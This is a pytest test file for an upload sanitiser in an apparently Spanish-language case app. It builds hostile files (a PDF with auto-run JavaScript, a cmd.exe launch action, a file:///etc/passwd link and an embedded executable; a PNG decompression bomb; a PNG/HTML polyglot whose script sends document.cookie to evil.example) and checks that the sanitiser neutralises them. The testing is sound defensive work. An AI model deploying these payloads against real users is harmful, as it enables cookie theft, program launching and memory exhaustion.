"""Uploads rebuilt from their content (issue 15): no active PDF, no image bomb, no polyglot.

Every hostile file is made here, in code: the PDF with pikepdf, the bomb as a PNG header
that declares 60,000 × 60,000 pixels, the polyglot as a PNG with an HTML page after it.
Each goes through both faces (the API and the case page's form) and comes back down.
"""

from __future__ import annotations

import io
import re
import struct
import uuid
import zlib
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from flask import Flask
from flask.testing import FlaskClient
from PIL import Image
from sqlalchemy import func, select

from app.cases import sanitise as sanitise_module
from app.cases.care_models import Attachment
from app.cases.sanitise import MAX_PIXELS, RefusedFile, sanitise
from app.core.errors import InvalidInput
from app.extensions import db
from tests.auth_helpers import csrf_token, start_web_session
from tests.conftest import Person
from tests.factories import intake

API = "/api/v1"
SCRIPT = "app.alert('ruta-js-ran')"
HTML = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"
DERIVED_NAME = re.compile(r"attachment; filename=(adjunto-[0-9a-f]{8})\.(pdf|png|jpg)$")

# ---- hostile files, built in code ------------------------------------------------------


def _js(pdf: pikepdf.Pdf, script: str) -> pikepdf.Dictionary:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=script))


def hostile_pdf() -> bytes:
    """One page that, opened in a careless reader, runs scripts at every turn, launches a
    program, opens a local file, carries another file and a form that posts away."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    page = pdf.pages[0].obj
    pdf.Root.OpenAction = _js(pdf, SCRIPT)
    pdf.Root.AA = pikepdf.Dictionary(WC=_js(pdf, SCRIPT))  # on close
    page.AA = pikepdf.Dictionary(O=_js(pdf, SCRIPT))  # on page open
    embedded = pdf.make_stream(b"MZ pretend this is an .exe")
    embedded.Type = pikepdf.Name.EmbeddedFile
    filespec = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec, F="factura.exe", EF=pikepdf.Dictionary(F=embedded)
        )
    )
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["init", _js(pdf, SCRIPT)])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array(["factura.exe", filespec])),
    )
    xfa = pdf.make_stream(b"<xdp:xdp><script>" + SCRIPT.encode() + b"</script></xdp:xdp>")
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            FT=pikepdf.Name.Tx,
            T="dui",
            AA=pikepdf.Dictionary(K=_js(pdf, SCRIPT)),
            Subtype=pikepdf.Name.Widget,
            Rect=[0, 0, 10, 10],
        )
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([field]),
        XFA=xfa,
        NeedAppearances=True,
    )

    def link(action: pikepdf.Dictionary) -> pikepdf.Dictionary:
        return pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=action
            )
        )

    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="C:\\Windows\\System32\\cmd.exe")
    local = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="file:///etc/passwd")
    web = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://www.pgr.gob.sv/")
    chained = pikepdf.Dictionary(
        S=pikepdf.Name.URI, URI="https://example.org/", Next=_js(pdf, SCRIPT)
    )
    attachment = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.FileAttachment,
            Rect=[0, 0, 10, 10],
            FS=filespec,
        )
    )
    page.Annots = pdf.make_indirect(
        pikepdf.Array([link(launch), link(local), link(web), link(chained), attachment, field])
    )
    pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, Count=0))
    pdf.trailer.Info = pdf.make_indirect(pikepdf.Dictionary(Author="Dra. Rosa Martínez"))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def png(width: int = 4, height: int = 3, colour: tuple[int, int, int] = (200, 30, 40)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, "PNG")
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(width: int = 60_000, height: int = 60_000) -> bytes:
    """A few hundred bytes that declare 3.6 billion pixels: decoded, 10 GB of memory."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    rows = zlib.compress(b"\x00" * 4096, 9)  # the start of an all-black image
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def jpeg_with_gps(orientation: int = 6) -> bytes:
    """A 40 × 20 photo taken sideways, with GPS coordinates in its EXIF."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Telefono de la sobreviviente"  # Make
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (13.0, 43.0, 7.0)
    gps[3], gps[4] = "W", (89.0, 43.0, 27.0)
    out = io.BytesIO()
    Image.new("RGB", (40, 20), (10, 120, 200)).save(out, "JPEG", exif=exif, comment=b"casa")
    return out.getvalue()


# ---- what a clean PDF must not have -----------------------------------------------------

ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"}


def every_dictionary(pdf: pikepdf.Pdf) -> list[Any]:
    """Each dictionary and stream of the file, inline ones (an /A inside a link) too."""
    found, pending = [], list(pdf.objects)
    while pending:
        item = pending.pop()
        if isinstance(item, (pikepdf.Dictionary, pikepdf.Stream)):
            found.append(item)
            children = list(item.values())
        elif isinstance(item, pikepdf.Array):
            children = list(item)
        else:
            continue
        pending.extend(
            c
            for c in children
            if isinstance(c, (pikepdf.Dictionary, pikepdf.Array)) and not c.is_indirect
        )
    return found


def assert_inert(data: bytes) -> pikepdf.Pdf:
    """Reopened, the PDF has a page and nothing that runs, leaves or is embedded."""
    assert b"ruta-js-ran" not in data  # the scripts are written inline, uncompressed
    pdf = pikepdf.open(io.BytesIO(data))
    root = pdf.Root
    for key in ("/OpenAction", "/AA", "/AcroForm"):
        assert key not in root, key
    if "/Names" in root:
        assert "/JavaScript" not in root.Names
        assert "/EmbeddedFiles" not in root.Names
    assert "/Info" not in pdf.trailer
    assert len(pdf.pages) == 1
    for obj in every_dictionary(pdf):
        for key in ("/JS", "/AA", "/EF", "/XFA", "/Next"):
            assert key not in obj, key
        assert str(obj.get("/S", "")) not in ACTIVE_ACTIONS
        assert str(obj.get("/Subtype", "")) != "/FileAttachment"
        assert str(obj.get("/Type", "")) != "/EmbeddedFile"
        uri = obj.get("/URI")
        if isinstance(uri, pikepdf.String):
            assert bytes(uri).startswith(b"https://")
    return pdf


def test_the_hostile_pdf_really_is_hostile_before_it_is_cleaned() -> None:
    # The sample must carry all that the cleaner removes, or the tests below prove nothing.
    pdf = pikepdf.open(io.BytesIO(hostile_pdf()))
    assert {"/OpenAction", "/AA", "/AcroForm"} <= set(pdf.Root.keys())
    assert {"/JavaScript", "/EmbeddedFiles"} <= set(pdf.Root.Names.keys())
    assert "/XFA" in pdf.Root.AcroForm and "/Info" in pdf.trailer
    kinds = {str(o.get("/S", "")) for o in pdf.objects if isinstance(o, pikepdf.Dictionary)}
    assert "/JavaScript" in kinds
    actions = [str(a.A.S) for a in pdf.pages[0].Annots if "/A" in a]
    assert actions == ["/Launch", "/URI", "/URI", "/URI"]
    subtypes = [str(a.get("/Subtype")) for a in pdf.pages[0].Annots]
    assert "/FileAttachment" in subtypes and "/Widget" in subtypes
    assert b"file:///etc/passwd" in hostile_pdf()
    with pytest.raises(AssertionError):
        assert_inert(hostile_pdf())


def test_a_pdf_is_rewritten_without_scripts_actions_embedded_files_or_forms() -> None:
    clean = sanitise(hostile_pdf())
    assert (clean.content_type, clean.extension) == ("application/pdf", ".pdf")
    pdf = assert_inert(clean.content)
    links = [str(a.A.URI) for a in pdf.pages[0].Annots if "/A" in a]
    # The web link stays; the link whose URI chained a script keeps only the URI.
    assert sorted(links) == ["https://example.org/", "https://www.pgr.gob.sv/"]


def test_a_pdf_with_a_password_or_no_pages_or_broken_is_refused() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    locked = io.BytesIO()
    pdf.save(locked, encryption=pikepdf.Encryption(user="clave", owner="clave"))
    with pytest.raises(RefusedFile, match="contraseña"):
        sanitise(locked.getvalue())
    empty = io.BytesIO()
    pikepdf.new().save(empty)
    with pytest.raises(RefusedFile, match="páginas"):
        sanitise(empty.getvalue())
    with pytest.raises(RefusedFile, match="dañado"):
        sanitise(b"%PDF-1.7\n<html>not a pdf at all</html>\n%%EOF\n")


# ---- images -----------------------------------------------------------------------------


def test_a_polyglot_png_comes_out_as_the_picture_alone() -> None:
    picture = png()
    clean = sanitise(picture + HTML)
    assert (clean.content_type, clean.extension) == ("image/png", ".png")
    assert b"<html" not in clean.content and b"<script" not in clean.content
    with Image.open(io.BytesIO(clean.content)) as image:
        assert image.format == "PNG"
        assert image.size == (4, 3)
        assert image.convert("RGB").getpixel((1, 1)) == (200, 30, 40)


def test_a_decompression_bomb_is_refused_from_its_header_without_decoding(monkeypatch) -> None:
    def never_decoded(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("the bomb reached the decoder")

    monkeypatch.setattr(sanitise_module.Image, "open", never_decoded)
    with pytest.raises(RefusedFile) as refused:
        sanitise(bomb_png())
    assert refused.value.status == 422
    assert refused.value.fields == {
        "file": [
            "La imagen es demasiado grande (60000 × 60000 píxeles); el máximo es 40 megapíxeles."
        ]
    }


def test_the_pixel_limit_is_the_boundary() -> None:
    side = int(MAX_PIXELS**0.5)
    with pytest.raises(RefusedFile, match="demasiado grande"):
        sanitise(bomb_png(side + 1, side + 1))
    # At the limit, the size check lets it through to the decoder (which finds the data
    # short: the bomb has only a few rows) — refused as damaged, not as too big.
    with pytest.raises(RefusedFile, match="dañada"):
        sanitise(bomb_png(side, side))


def test_a_jpeg_loses_its_exif_and_gps_and_is_turned_upright() -> None:
    original = jpeg_with_gps(orientation=6)
    with Image.open(io.BytesIO(original)) as before:
        assert before.getexif()[0x0112] == 6  # the sample does carry it
    clean = sanitise(original)
    assert (clean.content_type, clean.extension) == ("image/jpeg", ".jpg")
    assert b"Exif" not in clean.content
    assert b"Telefono" not in clean.content and b"casa" not in clean.content
    with Image.open(io.BytesIO(clean.content)) as image:
        assert image.format == "JPEG"
        assert image.size == (20, 40)  # rotated: shown upright without the tag
        assert not image.getexif()
        assert "comment" not in image.info


def _image(mode: str, fmt: str, **save: Any) -> bytes:
    out = io.BytesIO()
    image = Image.new(mode, (6, 5), 120 if mode in ("L", "P", "I;16") else None)
    if mode == "P":
        image.putpalette([0, 0, 0, 255, 0, 0] * 128)
        save.setdefault("transparency", 0)
    image.save(out, fmt, **save)
    return out.getvalue()


@pytest.mark.parametrize(
    ("mode", "fmt", "expected"),
    [
        ("RGBA", "PNG", "RGBA"),
        ("LA", "PNG", "LA"),
        ("P", "PNG", "P"),
        ("L", "PNG", "L"),
        ("I;16", "PNG", "I;16"),
        ("1", "PNG", "1"),
        ("L", "JPEG", "L"),
        ("CMYK", "JPEG", "CMYK"),
    ],
)
def test_ordinary_images_of_every_mode_come_back_whole(mode, fmt, expected) -> None:
    clean = sanitise(_image(mode, fmt))
    with Image.open(io.BytesIO(clean.content)) as image:
        assert (image.format, image.size, image.mode) == (fmt, (6, 5), expected)
        if mode == "P":
            assert image.info.get("transparency") == 0  # what is see-through stays so


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(HTML, id="html"),
        pytest.param(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", id="gif"),
        pytest.param(b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', id="svg"),
        pytest.param(png()[:-20], id="truncated-png"),
        pytest.param(b"PK\x03\x04" + b"\x00" * 60, id="zip"),
    ],
)
def test_what_is_not_a_real_pdf_png_or_jpeg_is_refused(data: bytes) -> None:
    with pytest.raises(InvalidInput) as refused:
        sanitise(data)
    assert refused.value.status == 422
    assert refused.value.fields == {"file": ["Solo se aceptan archivos PDF, JPEG o PNG."]}


# ---- through both faces -----------------------------------------------------------------


def open_case(client: FlaskClient, person: Person) -> str:
    response = client.post(f"{API}/cases", json=intake(), headers=person.headers)
    assert response.status_code == 201, response.get_json()
    return str(response.get_json()["id"])


def api_upload(
    client: FlaskClient, person: Person, case_id: str, data: bytes, name: str, kind: str
):
    return client.post(
        f"{API}/cases/{case_id}/attachments",
        headers=person.headers,
        data={"file": (io.BytesIO(data), name, kind), "description": "Informe"},
    )


def web_upload(app: Flask, person: Person, case_id: str, data: bytes, name: str, kind: str):
    client = app.test_client()
    start_web_session(app, client, person.username)
    page = client.get(f"/cases/{case_id}")
    assert page.status_code == 200
    response = client.post(
        f"/cases/{case_id}/attachments",
        data={
            "file": (io.BytesIO(data), name, kind),
            "description": "Informe",
            "csrf_token": csrf_token(page.get_data(as_text=True)),
        },
    )
    return client, response


def stored(app: Flask) -> list[Attachment]:
    with app.app_context():
        rows = list(
            db.session.execute(select(Attachment).order_by(Attachment.created_at)).scalars()
        )
        for row in rows:
            db.session.expunge(row)
        return rows


def assert_download(response: Any, content_type: str, extension: str) -> bytes:
    assert response.status_code == 200
    assert response.mimetype == content_type
    found = DERIVED_NAME.fullmatch(response.headers["Content-Disposition"])
    assert found, response.headers["Content-Disposition"]
    assert found.group(2) == extension
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    data = response.get_data()
    response.close()
    return data


def test_api_upload_of_a_hostile_pdf_downloads_inert_under_a_derived_name(app, client, pnc):
    case_id = open_case(client, pnc)
    upload = api_upload(client, pnc, case_id, hostile_pdf(), "denuncia.html", "text/html")
    assert upload.status_code == 201, upload.get_json()
    body = upload.get_json()
    assert body["content_type"] == "application/pdf"
    (row,) = stored(app)
    assert row.content_type == "application/pdf"
    download = client.get(f"{API}/cases/{case_id}/attachments/{body['id']}", headers=pnc.headers)
    data = assert_download(download, "application/pdf", "pdf")
    assert f"adjunto-{uuid.UUID(body['id']).hex[:8]}.pdf" in download.headers["Content-Disposition"]
    assert_inert(data)


def test_api_upload_of_a_polyglot_downloads_a_png_without_the_html(app, client, pnc):
    case_id = open_case(client, pnc)
    upload = api_upload(client, pnc, case_id, png() + HTML, "pagina.html", "text/html")
    assert upload.status_code == 201, upload.get_json()
    attachment_id = upload.get_json()["id"]
    download = client.get(f"{API}/cases/{case_id}/attachments/{attachment_id}", headers=pnc.headers)
    data = assert_download(download, "image/png", "png")
    assert data.startswith(b"\x89PNG\r\n\x1a\n") and b"<html" not in data and b"script" not in data


def test_api_refuses_the_bomb_and_non_files_with_422_and_stores_nothing(app, client, pnc):
    case_id = open_case(client, pnc)
    for data, name, kind, message in (
        (bomb_png(), "foto.png", "image/png", "demasiado grande"),
        (HTML, "foto.png", "image/png", "Solo se aceptan archivos PDF, JPEG o PNG."),
        (b"%PDF-1.4\n" + HTML + b"\n%%EOF\n", "x.pdf", "application/pdf", "dañado"),
    ):
        response = api_upload(client, pnc, case_id, data, name, kind)
        assert response.status_code == 422, response.get_json()
        body = response.get_json()
        assert body["error"] == "invalid"
        assert message in body["fields"]["file"][0]
    assert stored(app) == []
    assert list(Path(app.config["RUTA_ATTACHMENTS_DIR"]).glob("*")) == []


def test_the_case_page_form_cleans_a_pdf_and_a_polyglot_and_refuses_a_bomb(app, client, pnc):
    case_id = open_case(client, pnc)
    page, saved = web_upload(app, pnc, case_id, hostile_pdf(), "a.pdf", "application/pdf")
    assert saved.status_code == 303
    page, saved = web_upload(app, pnc, case_id, png() + HTML, "b.html", "text/html")
    assert saved.status_code == 303
    page, refused = web_upload(app, pnc, case_id, bomb_png(), "c.png", "image/png")
    assert refused.status_code == 303 and refused.headers["Location"].endswith("#adjuntos")
    shown = page.get(refused.headers["Location"]).get_data(as_text=True)
    assert "La imagen es demasiado grande" in shown
    pdf_row, png_row = stored(app)
    assert (pdf_row.content_type, png_row.content_type) == ("application/pdf", "image/png")
    pdf = page.get(f"/cases/{case_id}/attachments/{pdf_row.id}")
    assert_inert(assert_download(pdf, "application/pdf", "pdf"))
    picture = page.get(f"/cases/{case_id}/attachments/{png_row.id}")
    assert b"<html" not in assert_download(picture, "image/png", "png")


def test_a_photo_through_the_api_keeps_no_gps_and_downloads_as_jpg(app, client, pnc):
    case_id = open_case(client, pnc)
    upload = api_upload(client, pnc, case_id, jpeg_with_gps(), "IMG_0001.HEIC", "image/heic")
    assert upload.status_code == 201, upload.get_json()
    attachment_id = upload.get_json()["id"]
    download = client.get(f"{API}/cases/{case_id}/attachments/{attachment_id}", headers=pnc.headers)
    data = assert_download(download, "image/jpeg", "jpg")
    with Image.open(io.BytesIO(data)) as image:
        assert not image.getexif() and image.size == (20, 40)


def test_rows_and_files_stay_in_step(app, client, pnc):
    case_id = open_case(client, pnc)
    assert api_upload(client, pnc, case_id, png(), "a.png", "image/png").status_code == 201
    with app.app_context():
        count = db.session.execute(select(func.count()).select_from(Attachment)).scalar_one()
    assert count == len(list(Path(app.config["RUTA_ATTACHMENTS_DIR"]).iterdir())) == 1
